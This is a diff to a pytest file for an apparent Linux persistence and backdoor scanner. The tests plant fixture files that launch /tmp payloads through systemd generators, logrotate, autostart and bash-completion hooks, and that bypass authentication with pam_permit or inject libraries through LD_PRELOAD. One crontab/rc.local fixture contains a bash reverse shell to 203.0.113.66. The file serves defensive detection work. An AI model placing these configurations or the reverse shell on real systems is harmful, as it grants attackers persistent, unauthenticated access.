@@ -65,6 +65,15 @@ PLANTS = {
     "/etc/hosts": "127.0.0.1 security.debian.org\n",
     "/etc/hosts.equiv": "+ +\n",
     "/etc/tmpfiles.d/x.conf": "f /usr/lib/x 4755 root root -\n",
+    "/etc/systemd/system-generators/x": "#!/bin/sh\n/dev/shm/x &\n",
+    "/usr/local/lib/systemd/system-generators/x": "#!/bin/sh\n/dev/shm/x &\n",
+    "/etc/logrotate.d/x": "/var/log/x {\n postrotate\n  /tmp/x\n endscript\n}\n",
+    "/etc/xdg/autostart/x.desktop": "[Desktop Entry]\nExec=/tmp/x\n",
+    "/etc/bash_completion.d/x": "/tmp/x &\n",
+    "/etc/pam.d/common-auth": "auth sufficient pam_permit.so\n",
+    "/etc/pam.d/login": "auth [success=done default=ignore] /lib/security/pam_permit.so\n",
+    "/etc/security/pam_env.conf": "LD_PRELOAD DEFAULT=/usr/lib/x.so\n",
+    "/etc/systemd/system.conf.d/x.conf": "[Manager]\nDefaultEnvironment=LD_PRELOAD=/usr/lib/x.so\n",
 }
 
 
@@ -81,11 +90,69 @@ def test_each_way_to_come_back(tmp_path: Path, path: str) -> None:
     assert item.evidence[0].source.startswith(path)
 
 
+@pytest.mark.parametrize(
+    ("path", "line"),
+    [
+        ("/etc/sudoers.d/x", "#includedir /var/lib/x"),
+        ("/etc/sudoers.d/x", "@include /var/lib/x"),
+        ("/etc/ssh/sshd_config", "Include /var/lib/x"),
+    ],
+)
+def test_settings_that_lead_to_others_which_are_not_read(tmp_path: Path, path: str, line: str) -> None:
+    put(clean(tmp_path), path, f"# a comment\n{line}\n")
+    item = look(tmp_path).named(f"{path}:2")
+    assert item.verdict is Verdict.NOTABLE
+    assert "from other files than usual" in item.says
+
+
+def test_settings_that_lead_to_the_usual_others(tmp_path: Path) -> None:
+    put(clean(tmp_path), "/etc/sudoers", "#includedir /etc/sudoers.d\n@includedir /etc/sudoers.d\n")
+    put(tmp_path, "/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\n")
+    put(
+        tmp_path,
+        "/etc/pam.d/common-auth",
+        "auth [success=1 default=ignore] pam_unix.so\nauth required pam_permit.so\n",
+    )
+    found = look(tmp_path)
+    assert not found.of(Verdict.NOTABLE)
+    assert not found.suspicious
+
+
+@pytest.mark.parametrize(
+    ("before", "says"),
+    [(b"#" * 2**20 + b"\n", "only the first 1048576 of its"), (b"x\n" * 2000, "only its first 2000 entries")],
+    ids=["long", "many"],
+)
+def test_what_stands_behind_a_long_beginning_is_not_said_to_be_fine(
+    tmp_path: Path, before: bytes, says: str
+) -> None:
+    put(clean(tmp_path), "/etc/profile.d/x.sh", before + b"/tmp/x\n")
+    (unseen,) = look(tmp_path).unseen
+    assert (unseen.scope, says in unseen.reason) == ("/etc/profile.d/x.sh", True)
+
+
+def test_a_line_that_is_too_long_to_be_looked_through(tmp_path: Path) -> None:
+    put(clean(tmp_path), "/etc/profile.d/x.sh", b"true" + b" " * 9000 + b"; /tmp/x\n")
+    item = look(tmp_path).named("/etc/profile.d/x.sh")
+    assert item.verdict is Verdict.NOTABLE
+    assert "goes on for longer than anybody writes" in item.says
+
+
 def test_an_entry_that_nobody_brought_is_told_by_the_check_of_folders(tmp_path: Path) -> None:
     put(clean(tmp_path), "/etc/cron.d/backup", "0 1 * * * root /usr/bin/ls\n")
     item = look(tmp_path).named("/etc/cron.d/backup:1")
     assert item.verdict is Verdict.FINE
     assert item.details["file"] == "no package owns it"
+
+
+@pytest.mark.parametrize("path", ["/etc/crontab", "/etc/rc.local"])
+def test_a_password_in_a_command_is_not_told(tmp_path: Path, path: str) -> None:
+    who = "* * * * * root " if path == "/etc/crontab" else "#!/bin/sh\n"
+    put(clean(tmp_path), path, f"{who}mysql -phunter2 x; bash -i >& /dev/tcp/203.0.113.66/1 0>&1\n")
+    found = look(tmp_path)
+    assert len(found.suspicious) == 1
+    assert "hunter2" not in repr(found.items)
+    assert "/dev/tcp/203.0.113.66" in found.named(found.suspicious[0]).evidence[0].text
 
 
 def test_its_program_counts_too(tmp_path: Path) -> None:
